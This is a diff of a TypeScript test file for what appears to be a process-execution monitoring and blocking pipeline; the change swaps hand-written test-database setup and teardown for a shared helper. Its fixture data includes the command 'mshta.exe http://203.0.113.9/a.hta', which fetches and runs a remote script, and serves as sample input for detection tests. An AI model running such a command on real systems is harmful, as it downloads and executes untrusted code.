@@ -1,5 +1,5 @@
 import fc from 'fast-check'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { beforeAll, describe, expect, test } from 'vitest'
 import type { Scope } from '@/lib/pipeline/actor'
 import type { Signature } from '@/lib/pipeline/baseline/signature'
 import {
@@ -19,7 +19,7 @@ import {
   planBlock,
   soleException,
 } from '@/lib/pipeline/decision/what-if'
-import { closePool, pool } from '@/lib/store/pool'
+import { pool } from '@/lib/store/pool'
 import { queueEverything } from '@/lib/store/recompute/work-queue'
 import { type BinaryHeader, findBinary } from '@/lib/store/screens/binary/view'
 import { loadByDay } from '@/lib/store/screens/what-if/load-by-day'
@@ -28,11 +28,10 @@ import { loadRankedReplay, loadReplay } from '@/lib/store/screens/what-if/load-r
 import { loadStoppedDeviations } from '@/lib/store/screens/what-if/load-stopped'
 import { loadReplayInput } from '@/lib/store/screens/what-if/replay-input'
 import { transaction } from '@/lib/store/sql'
-import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
+import { withTestDatabase } from '@/lib/store/test-database'
 import { ingestExamples } from './ingest/example-use'
 import { recompute } from './recompute/recompute'
 
-let database: TestDatabase
 let entry: BinaryHeader
 type Stored = JudgedUse & { signature: Signature; day: string; executions: number; userId: string }
 let stored: Stored[]
@@ -45,9 +44,8 @@ const PARENTS = [
 const LINES = ['mshta.exe C:\\Apps\\form.hta', 'mshta.exe http://203.0.113.9/a.hta', null]
 const USERS = ['CORP\\ada', 'CORP\\ben', 'NT AUTHORITY\\SYSTEM']
 
+withTestDatabase()
 beforeAll(async () => {
-  database = await createTestDatabase()
-  process.env['APP_DATABASE_URL'] = database.appUrl
   await ingestExamples(
     pool(),
     Array.from({ length: 72 }, (_, at) => ({
@@ -70,10 +68,6 @@ beforeAll(async () => {
   if (!found) throw new Error('no entry')
   entry = found
   stored = await readUse()
-})
-afterAll(async () => {
-  await closePool()
-  await database.drop()
 })
 
 type Row = { host_id: number; group_id: number | null; day: string; executions: number; principal_id: string }
